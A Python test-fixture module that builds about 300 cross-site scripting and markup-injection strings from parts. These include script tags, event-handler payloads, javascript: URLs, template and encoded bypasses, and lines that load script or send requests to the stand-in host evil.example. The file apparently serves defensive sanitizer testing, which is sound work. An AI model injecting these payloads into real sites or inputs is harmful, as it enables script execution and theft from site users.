"""Markup that people send to see what breaks: about 300 strings, built from their parts."""

from __future__ import annotations

from itertools import product

_CALLS = ("alert(1)", "print()", "fetch('//evil.example')", "document.title='x'")
_SHAPES = (
    "<script>{}</script>",
    "<script src=//evil.example/x.js></script>{}",
    "<img src=x onerror={}>",
    "<img src='//evil.example/{}.png'>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<a href=javascript:{}>here</a>",
    "[here](javascript:{})",
    "<body onload={}>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<style>@import '//evil.example/{}';</style>",
    "<link rel=stylesheet href='//evil.example/{}'>",
    "<base href='//evil.example/{}/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{}'>",
    "<form action='//evil.example/{}'><button>x</button></form>",
    "</textarea><script>{}</script>",
    "</template><script>{}</script>",
    "</title><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "{{{{ {} }}}}",
    "${{{}}}",
    "{{% {} %}}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
)
_FRAMES = ("{}", '"{}', "'>{}")

_ODD = ("\u202e<b>gnirts</b>", "Z\u0351\u036ba\u0489lgo", "😀" * 40, "a" * 900)
_MADE = [
    frame.format(shape.format(call)) for frame, shape, call in product(_FRAMES, _SHAPES, _CALLS)
]

PAYLOADS: tuple[str, ...] = (*_MADE[:300], *_ODD)
